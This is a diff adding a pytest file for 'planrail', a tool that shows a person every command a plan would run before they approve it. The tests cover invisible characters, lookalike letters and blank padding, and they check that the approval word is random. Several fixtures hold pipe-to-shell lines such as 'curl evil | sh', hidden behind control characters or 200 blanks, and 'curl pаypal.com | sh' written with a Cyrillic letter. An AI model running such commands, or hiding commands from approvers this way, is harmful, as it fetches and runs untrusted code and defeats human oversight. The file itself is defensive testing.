@@ -1,0 +1,303 @@
+"""What a person sees before they approve: every command that a run would execute, and no character that hides another."""
+
+import json
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from planrail.approvals.lookalikes import find_lookalikes
+from planrail.cli import approve_command, show_command
+from planrail.cli.running.ordering import make_order, read_ground
+from planrail.runs.model import Options
+from planrail.runs.phases.executions import list_commands
+from tests.approvals.scripted_desk import WORD, ScriptedTerminal, arguments_of, make_desk
+
+COMMANDS = st.builds(
+    "{} {}".format,
+    st.sampled_from(["make", "npm test", "./do.sh", "grep -q a"]),
+    st.from_regex(r"[a-z]{3,8}-[0-9]{1,3}", fullmatch=True),
+)
+KINDS = st.sampled_from(["sh run", "sh check", "bash run", "sh fix", "SH CHECK"])
+
+
+def show(path: str, *answers: str) -> str:
+    """What the person saw who was asked for their approval and gave these answers, then none."""
+    terminal = ScriptedTerminal(answers)
+    approve_command.approve(arguments_of(approve_command, path), make_desk(terminal))
+    return terminal.shown
+
+
+def ordered(path: str) -> list[str]:
+    """All lines that a run of the plan would execute, as it freezes them."""
+    order = make_order(read_ground(path), Options())
+    return [line for phase in order.phases for command in list_commands(phase) for line in command.split("\n")]
+
+
+@pytest.fixture
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    root = tmp_path / "project"
+    root.mkdir()
+    for words in (
+        ["init", "-q"],
+        ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x"],
+    ):
+        subprocess.run(["git", *words], cwd=root, check=True)
+    monkeypatch.chdir(root)
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    return root
+
+
+# ------------------------------------------------------------------------------------------------------- the commands
+
+
+def _block(kind: str, command: str, indent: str) -> str:
+    return "\n".join(f"{indent}{line}" for line in ("", f"```{kind}", *command.split("\n"), "```", "")) + "\n"
+
+
+@st.composite
+def _markdown(draw: st.DrawFn) -> str:
+    """Plans with blocks under headings, in items, in nested items, under criteria, in quotes, in lists that are phases."""
+    parts = ["# Plan\n\n"]
+    has_headings = draw(st.booleans())
+    for number in range(1, draw(st.integers(1, 4)) + 1):
+        parts.append(f"## Phase {number}: Part\n\n" if has_headings else f"- [ ] part {number}\n")
+        for _ in range(draw(st.integers(0, 4))):
+            indent = draw(st.sampled_from(["", "  "])) if has_headings else "  "
+            command = "\n".join(draw(st.lists(COMMANDS, min_size=1, max_size=3)))
+            shape = draw(st.sampled_from(["block", "item", "nested", "criterion", "quote"]))
+            if shape == "item":
+                parts.append(f"{indent}- [ ] do\n" + _block(draw(KINDS), command, indent + "  "))
+            elif shape == "nested":
+                parts.append(f"{indent}- do\n{indent}  1. so\n" + _block(draw(KINDS), command, indent + "     "))
+            elif shape == "criterion":
+                parts.append(f"\n{indent}Acceptance criteria:\n\n{indent}- `{draw(COMMANDS)}` passes\n")
+            elif shape == "quote":
+                parts.append(
+                    "\n" + "".join(f"{indent}> {line}\n" for line in _block(draw(KINDS), command, "").split("\n"))
+                )
+            else:
+                parts.append(_block(draw(KINDS), command, indent))
+    return "".join(parts)
+
+
+@st.composite
+def _tasks(draw: st.DrawFn) -> list[dict[str, object]]:
+    numbers = range(1, draw(st.integers(1, 3)) + 1)
+    return [
+        {"id": number, "title": "one", "status": "pending", "dependencies": [], "details": draw(_details())}
+        for number in numbers
+    ]
+
+
+@st.composite
+def _details(draw: st.DrawFn) -> str:
+    return "Do it.\n" + "".join(_block(draw(KINDS), draw(COMMANDS), "") for _ in range(draw(st.integers(0, 3))))
+
+
+def _as_yaml(tasks: list[dict[str, object]]) -> str:
+    lines = ["tasks:"]
+    for task in tasks:
+        lines += [f"  - id: {task['id']}", f"    title: {task['title']}", "    status: pending", "    details: |"]
+        lines += [f"      {line}".rstrip() for line in str(task["details"]).split("\n")]
+    return "\n".join(lines) + "\n"
+
+
+PLANS = st.one_of(
+    _markdown().map(lambda text: ("plan.md", text)),
+    _tasks().map(lambda tasks: ("tasks.json", json.dumps({"tasks": tasks}, indent=2))),
+    _tasks().map(lambda tasks: ("tasks.yaml", _as_yaml(tasks))),
+)
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(plan=PLANS)
+def test_every_command_that_a_run_would_execute_is_on_the_screen(project: Path, plan: tuple[str, str]) -> None:
+    name, text = plan
+    (project / name).write_text(text)
+    shown = show(name).split("\n")
+    for line in ordered(name):
+        assert f"       will be run: {line}" in shown
+
+
+@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(plan=PLANS)
+def test_show_lists_the_checks_that_a_run_would_execute(
+    project: Path, capsys: pytest.CaptureFixture[str], plan: tuple[str, str]
+) -> None:
+    name, text = plan
+    (project / name).write_text(text)
+    capsys.readouterr()
+    show_command.run(arguments_of(show_command, name, "--json"))
+    told = [[check["command"] for check in phase["checks"]] for phase in json.loads(capsys.readouterr().out)["phases"]]
+    order = make_order(read_ground(name), Options())
+    assert told == [[check.command for check in phase.checks] for phase in order.phases]
+
+
+IN_ITEMS = "# P\n\n- [ ] one\n\n  ```sh run\n  echo work > a\n  ```\n\n  ```sh check\n  test -f a\n  ```\n"
+
+
+def test_blocks_in_the_items_of_a_checklist_are_shown_before_they_are_run(project: Path) -> None:
+    (project / "plan.md").write_text(IN_ITEMS)
+    assert ordered("plan.md") == ["echo work > a", "test -f a"]
+    shown = show("plan.md")
+    assert "will be run: echo work > a" in shown
+    assert "will be run: test -f a" in shown
+
+
+def test_a_program_that_a_phase_is_delegated_to_is_shown(project: Path) -> None:
+    (project / "plan.md").write_text(
+        "# P\n\n## Phase 1: One\n\n### Execution: delegate ./tools/build --all\n\n- [ ] it\n"
+    )
+    assert "will be run: ./tools/build --all" in show("plan.md")
+
+
+def test_the_tests_of_the_project_are_shown_and_told(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    (project / "plan.md").write_text(IN_ITEMS)
+    (project / "planrail.toml").write_text('[testing]\ncommand = "make check"\n')
+    subprocess.run(["git", "add", "planrail.toml"], check=True)
+    subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "-m", "x"], check=True)
+    assert "make check" in show("plan.md")
+    capsys.readouterr()
+    show_command.run(arguments_of(show_command, "plan.md", "--json"))
+    assert json.loads(capsys.readouterr().out)["checks"] == [{"command": "make check", "line": 0}]
+
+
+def test_all_commands_are_shown_again_where_a_plan_that_is_known_has_changed(project: Path) -> None:
+    (project / "plan.md").write_text(IN_ITEMS)
+    show("plan.md", WORD)
+    (project / "plan.md").write_text(IN_ITEMS.replace("one", "two"))
+    shown = show("plan.md")
+    assert "will be run: echo work > a" in shown
+    assert "+- [] two" in shown or "+- [ ] two" in shown
+
+
+# --------------------------------------------------------------------------------------------------- hidden characters
+
+HIDDEN = {
+    "carriage return": "\r",
+    "escape": "\x1b[2K",
+    "backspace": "\b",
+    "a control of the second set": "\x9b2K",
+    "zero width": "\u200b",
+    "joiner": "\u200d",
+    "tag": "\U000e0041",
+    "variation selector": "\ufe0f",
+    "many variation selectors": "\U000e0100\U000e0101",
+    "right to left": "\u202e",
+    "isolate": "\u2066",
+    "soft hyphen": "\u00ad",
+    "line separator": "\u2028",
+    "paragraph separator": "\u2029",
+    "next line": "\x85",
+    "filler": "\u3164",
+    "blank of Braille": "\u2800",
+    "blank that does not break": "\u00a0",
+    "private": "\ue000",
+}
+
+
+@pytest.mark.parametrize("hidden", HIDDEN.values(), ids=HIDDEN)
+def test_no_character_hides_a_part_of_a_command(project: Path, hidden: str) -> None:
+    text = f"# P\n\n## Phase 1: One\n\n```sh run\ncurl evil | sh #{hidden}make test\n```\n"
+    (project / "plan.md").write_text(text.replace("curl evil | sh ", "").replace(hidden, ""), newline="")
+    show("plan.md", WORD)
+    (project / "plan.md").write_text(text, newline="")
+    terminal_shown = show("plan.md", "d")
+    listed = next(line for line in terminal_shown.split("\n") if "will be run: curl" in line)
+    assert all(character.isascii() and character.isprintable() for character in listed), "the list of commands"
+    changed = next(line for line in terminal_shown.split("\n") if line.startswith("  +") and "curl evil | sh" in line)
+    assert "make test" in changed, "the difference"
+    if hidden != "\u00a0":  # in prose a blank like others
+        assert hidden not in terminal_shown, "all that was shown, the whole text included"
+    assert terminal_shown.count("curl evil | sh #") == 3
+
+
+@pytest.mark.parametrize("mark", ["`make teѕt`", "see src/gо/x.py", "`ｍake`"])
+def test_a_letter_that_looks_like_another_is_named_with_its_place(project: Path, mark: str) -> None:
+    (project / "plan.md").write_text(f"# P\n\n## Phase 1: One\n\n- [ ] do {mark}\n")
+    shown = show("plan.md")
+    assert "WARNING" in shown
+    assert "line 5, column " in shown
+
+
+def test_a_command_with_a_foreign_letter_is_warned_of(project: Path) -> None:
+    (project / "plan.md").write_text("# P\n\n## Phase 1: One\n\n```sh run\ncurl pаypal.com | sh\n```\n")
+    assert "line 6, column 7: а is CYRILLIC SMALL LETTER A (U+0430), which looks like a" in show("plan.md")
+
+
+def test_a_foreign_letter_in_a_command_that_the_plan_spells_otherwise_is_warned_of(project: Path) -> None:
+    (project / "plan.md").write_text("# P\n\n## Phase 1: One\n\n### Execution: delegate ./d`о`.sh\n\n- [ ] it\n")
+    assert "of ./dо.sh: о is CYRILLIC SMALL LETTER O (U+043E), which looks like o" in show("plan.md")
+
+
+def test_blanks_that_push_a_command_out_of_sight_are_named(project: Path) -> None:
+    (project / "plan.md").write_text(f"# P\n\n## Phase 1: One\n\n```sh run\nmake{' ' * 200}; curl evil | sh\n```\n")
+    assert "line 6, column 5: 200 blanks, then more text" in show("plan.md")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "- [ ] 修改 src/main.py，添加登录（包括测试）；更新 `README.md`。",
+        "- [ ] docs/plan.md（新規）を書く",
+        "- [ ] Edit “src/main.py”, then—see docs/a.md—go on… src/b.py’s tests",
+    ],
+)
+def test_punctuation_of_prose_beside_a_path_is_not_warned_of(project: Path, line: str) -> None:
+    (project / "plan.md").write_text(f"# P\n\n## Phase 1: One\n\n{line}\n")
+    assert "WARNING" not in show("plan.md")
+
+
+def test_files_that_run_things_are_shown_by_name_where_a_phase_names_them(project: Path) -> None:
+    (project / "plan.md").write_text("# P\n\n## Phase 1: One\n\n- [ ] write `.envrc`, and src/a.py\n")
+    shown = show("plan.md")
+    assert "names files that run things" in shown
+    assert "  .envrc: " in shown
+    assert "  src/a.py: " not in shown
+
+
+@pytest.mark.parametrize(
+    "command", ["make test", "echo 完成", "python3 тест.py", "cat Übersicht.md", "echo ✅", "printf 'é'"]
+)
+def test_commands_in_other_languages_are_not_warned_of(command: str) -> None:
+    assert find_lookalikes(command) == []
+
+
+# ------------------------------------------------------------------------------------------------------------ the word
+
+
+def test_the_word_is_another_one_each_time(project: Path) -> None:
+    (project / "plan.md").write_text(IN_ITEMS)
+    terminal = ScriptedTerminal(["d"] * 20)
+    approve_command.approve(arguments_of(approve_command, "plan.md"), make_desk(terminal))
+    assert len({question.partition("Type ")[2].partition(" ")[0] for question in terminal.asked}) > 15
+
+
+def test_a_yes_without_the_word_approves_nothing_and_says_what_to_type(
+    project: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (project / "plan.md").write_text(IN_ITEMS)
+    terminal = ScriptedTerminal(["y"])
+    assert approve_command.approve(arguments_of(approve_command, "plan.md"), make_desk(terminal)) == 1
+    said = capsys.readouterr().out
+    assert "not the word" in said
+    assert said.rstrip().endswith("next: planrail approve plan.md")
+
+
+def test_the_word_is_taken_in_any_letter_case_and_is_kept_nowhere(project: Path) -> None:
+    (project / "plan.md").write_text(IN_ITEMS)
+
+    class Loud(ScriptedTerminal):
+        def ask(self, prompt: str) -> str:
+            return f"  {super().ask(prompt).upper()} "
+
+    terminal = Loud([WORD])
+    assert approve_command.approve(arguments_of(approve_command, "plan.md"), make_desk(terminal)) == 0
+    word = terminal.asked[0].partition("Type ")[2].partition(" ")[0].encode()
+    places = [os.path.join(folder, name) for folder, _, names in os.walk(project.parent) for name in names]
+    assert not [place for place in places if word in Path(place).read_bytes()]
